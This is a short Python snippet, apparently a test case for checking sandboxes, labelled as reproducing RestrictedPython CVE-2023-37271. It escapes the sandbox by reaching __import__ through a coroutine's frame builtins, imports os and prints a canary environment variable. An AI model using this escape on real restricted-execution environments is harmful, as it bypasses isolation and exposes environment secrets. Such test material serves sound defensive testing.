# source: RestrictedPython CVE-2023-37271
# effect: environment

async def sleeper():
    return 1


waiting = sleeper()
print(waiting.cr_frame.f_builtins["__import__"]("os").environ["ASSAY_CANARY"])
waiting.close()
